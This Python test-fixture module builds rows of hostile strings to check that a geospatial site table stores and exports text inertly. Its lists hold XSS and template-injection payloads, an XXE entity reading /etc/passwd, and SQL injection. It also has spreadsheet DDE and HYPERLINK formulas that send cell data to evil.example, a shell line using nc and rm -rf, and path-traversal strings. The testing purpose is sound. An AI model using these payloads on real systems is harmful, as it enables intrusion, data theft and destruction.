"""Texts that would like to be something else: one list for every field and every way out.

Anybody's bulletin may hold any of them. Each must come out as the text it is, or with `\ufffd` for each character that
a file format has no place for; nothing of it may run, be fetched, be computed or be taken for the end of anything.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from datetime import date

import geopandas as gpd
import shapely

from geo.category import load_categories
from geo.site import Match, SiteRecord, Source, make_sites, site_row

RAN = "window.top.ran=(window.top.ran||0)+1"
"""What a script in a text does if it runs: the browser tests look for the mark."""
ELSEWHERE = "http://evil.example"

TEMPLATES = (
    "{{7*7}}",
    "{% raw %}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ config.items() }}{# comment #}${7*7}#{7*7}<%= 7*7 %>",
    "{name}{n}{0.__class__}%s%n%(name)s%x",
    "{{constructor.constructor('" + RAN + "')()}}",
)
MARKUP = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</title></style></textarea></noscript><img src=x onerror={RAN}>",
    f"<svg/onload={RAN}><foreignObject><body onload={RAN}></foreignObject></svg>",
    f"\"'><iframe srcdoc='<script>{RAN}</script>'></iframe>",
    f"<a href=javascript:{RAN}>甲</a><base href={ELSEWHERE}/><meta http-equiv=refresh content=0>",
    f"<style>@import '{ELSEWHERE}/x.css';*{{background:url({ELSEWHERE}/x.png)}}</style>",
    f"<details open ontoggle={RAN}><math><mtext></mtext></math><video src=x onerror={RAN}>",
    "&lt;b&gt;&#60;script&#62;&amp;&nbsp;]]><!-- --!> <![CDATA[ x ]]> <?php echo 1 ?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
)
SCRIPTS = (
    f"javascript:{RAN}",
    f"JaVaScRiPt&colon;{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    "vbscript:msgbox(1)",
    f"';{RAN};//",
    f"`${{{RAN}}}`",
    '"-alert(1)-"\\";alert(1)//',
    "__proto__",
    "constructor",
    "toString",
)
MARKDOWN = (
    f"![p]({ELSEWHERE}/p.png) [l](javascript:{RAN}) <{ELSEWHERE}>",
    "# 标题 **粗** _斜_ ~~删~~ `码` :smile: :material/home: :red[红] - [ ] 项",
    "$\\alpha$ $$\\frac{1}{2}$$ \\href{javascript:x}{甲} $x_$ $\\notacommand{$ $",
    "| a | b |\n|---|---|\n| 1 | 2 |",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|'/c calc'!A1",
    '=DDE("cmd";"/c calc";"x")',
    f'=HYPERLINK("{ELSEWHERE}?x="&A1,"甲")',
    f'=WEBSERVICE("{ELSEWHERE}")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u3000=1+1",
    "\u00a0@x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    "''",
    '"=1+1"',
    "{=1+1}",
    "007",
    "1e5",
    "TRUE",
    "2020-03-11",
    "#REF!",
    '甲,=1+1\r\n=2+2,"乙""',
    "_x0041__x000A_",
)
COMMANDS = (
    "' OR 1=1 --",
    "'); DROP TABLE sites; --",
    '" UNION SELECT sql FROM sqlite_master --',
    "%_\\%\\_[a]*?",
    "$(touch /tmp/ran) `id` | nc x 1 & ; && rm -rf ~ #",
    "-rf --help -c",
    "%PATH% ^& !x!",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\CON\\x.txt",
    "\\\\host\\share",
    "file:///etc/passwd",
    "%2e%2e%2f%00",
    "a/b?c=d&e=f#g;h",
    ".",
    "CON",
    "x.gpkg-wal",
)
UNSEEN = (
    "\u202e甲乙丙\u202c",
    "甲\u2066乙\u2069\u200f",
    "\ufeff甲\u200b乙\u00ad",
    "甲\u2028乙\u2029丙\u0085丁",
    "👨‍👩‍👧‍👦🏳️‍🌈é́́́",
    "\U0001f9d1🏽‍🚒𠮷𪚥\U0010fffd\ue000",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "السلام ה ไทย देव",
    "甲\r\n乙\t丙",
    " 两边空格 ",
)
CONTROLS = (
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m红\x1b]0;x\x07\x1f\x7f",
    "甲\x80\x9f\ufffe\uffff\ufdd0乙",
    "\x1c\x1d\x1e",
)
"""Characters that some formats have no place for."""
HUGE = ("甲" * 40_000, "<" * 3_000, "W" * 5_000, "\u0301" * 2_000)
UNKEPT = ("甲\0乙", "\0", "甲\ud800乙", "\udc80", "\udfff\ud83d")
"""NUL and halves of a surrogate pair: JSON and a command line can bring them, no store keeps them."""

NAUGHTY = (
    TEMPLATES + MARKUP + SCRIPTS + MARKDOWN + FORMULAS + COMMANDS + PATHS + UNSEEN + CONTROLS + HUGE
)
"""All that a store can keep."""

_NO_XML = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def as_xml_holds(text: str) -> str:
    """Return a text as XML 1.0, and with it every office format, can hold it."""
    return _NO_XML.sub("\ufffd", text)


def named(prefix: str, text: str) -> str:
    """Return a naughty text as it may be a name: with something to see in front where there is nothing."""
    return text if text.strip() else prefix + text


FIELDS = "site_id name place street source_file source_where source_quote note".split()
"""The columns of the site table that hold a source's words."""


def naughty_rows(texts: tuple[str, ...] = NAUGHTY) -> list[dict[str, str]]:
    """Return a row for each text: the text as its name, and each in each of the other fields of some row."""
    count = len(texts)
    rows = []
    for n in range(count):
        row = {field: texts[(n + step) % count] for step, field in enumerate(FIELDS)}
        row["name"] = named("甲", texts[n])
        row["site_id"] = f"{n}-{row['site_id'][:200]}"
        rows.append(row)
    return rows


def naughty_sites(rows: Sequence[dict[str, str]]) -> gpd.GeoDataFrame:
    """A site table of naughty rows: two in three on the map, of every status."""
    keys, made = tuple(load_categories().codes), []
    for n, row in enumerate(rows):
        kind, status = keys[n % len(keys)].split(".")
        record = SiteRecord(
            kind,
            row["name"],
            status,
            Source(row["source_file"], row["source_where"], row["source_quote"]),
            site_id=row["site_id"],
            as_of=date(2020, 3, 1 + n % 20),
            place=row["place"],
            street=row["street"],
            note=row["note"],
        )
        spot = shapely.Point(123.15 + 0.0007 * (n % 10), 41.25 + 0.0009 * (n // 10))
        where = Match("given", spot, "poi") if n % 3 else Match("none", reason="no_coordinate")
        made.append(site_row(record, where))
    return make_sites(made)
